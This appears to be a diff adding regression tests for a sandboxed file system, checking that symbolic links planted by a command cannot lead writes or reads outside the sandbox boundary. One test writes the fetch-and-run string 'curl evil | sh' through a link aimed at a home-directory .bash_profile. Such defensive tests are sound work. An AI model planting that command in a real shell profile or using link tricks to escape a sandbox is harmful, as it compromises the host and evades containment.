@@ -95,3 +95,48 @@ describe("sandboxedFileSystem", () => {
     expect((await fs.writeText(join(dirs.cache, "x"), "yes")).isOk()).toBe(true);
   });
 });
+
+// Attacks of issue 27: each failed on the code before (the path check resolved a dangling link to
+// `<cwd>/link`, and the open followed it; a link to /tmp/x was followed into the host's /tmp).
+describe("sandboxedFileSystem and links a command planted", () => {
+  it("refuses a write through a dangling link to a file outside the boundary, and creates nothing", async () => {
+    const { fs, dirs } = world();
+    symlinkSync(join(dirs.home, ".bash_profile"), join(dirs.cwd, "notes.txt"));
+    const written = await fs.writeText(join(dirs.cwd, "notes.txt"), "curl evil | sh");
+    expect(written._unsafeUnwrapErr()).toMatchObject({ kind: "io", message: expect.stringContaining("symbolic link to a file that does not exist") });
+    expect(() => readFileSync(join(dirs.home, ".bash_profile"))).toThrow();
+  });
+
+  it("refuses a write through a dangling link even when its target would be inside the cwd", async () => {
+    const { fs, dirs } = world();
+    symlinkSync(join(dirs.cwd, "later.txt"), join(dirs.cwd, "link"));
+    expect((await fs.writeText(join(dirs.cwd, "link"), "x")).isErr()).toBe(true);
+  });
+
+  it("follows a link to /tmp into the sandbox's private /tmp, never the host's", async () => {
+    const { fs, dirs } = world();
+    const hostSecret = mkdtempSync(join(tmpdir(), "mm-host-tmp-"));
+    roots.push(hostSecret);
+    writeFileSync(join(hostSecret, "secret.txt"), "HOST ONLY");
+    mkdirSync(join(dirs.privateTmp, hostSecret.slice("/tmp/".length)), { recursive: true });
+    writeFileSync(join(dirs.privateTmp, hostSecret.slice("/tmp/".length), "secret.txt"), "private copy");
+    symlinkSync(join(hostSecret, "secret.txt"), join(dirs.cwd, "peek"));
+    expect((await fs.readText(join(dirs.cwd, "peek")))._unsafeUnwrap()).toBe("private copy");
+  });
+
+  it("writes through a link inside the boundary to its target", async () => {
+    const { fs, dirs } = world();
+    writeFileSync(join(dirs.cwd, "real.txt"), "old");
+    symlinkSync("real.txt", join(dirs.cwd, "alias.txt"));
+    expect((await fs.writeText(join(dirs.cwd, "alias.txt"), "new")).isOk()).toBe(true);
+    expect(readFileSync(join(dirs.cwd, "real.txt"), "utf8")).toBe("new");
+  });
+
+  it("refuses a write through a link that leads out of the boundary", async () => {
+    const { fs, dirs } = world();
+    writeFileSync(join(dirs.other, "target.txt"), "keep");
+    symlinkSync(join(dirs.other, "target.txt"), join(dirs.cwd, "out.txt"));
+    expect((await fs.writeText(join(dirs.cwd, "out.txt"), "x"))._unsafeUnwrapErr()).toMatchObject({ message: OUTSIDE_MESSAGE });
+    expect(readFileSync(join(dirs.other, "target.txt"), "utf8")).toBe("keep");
+  });
+});
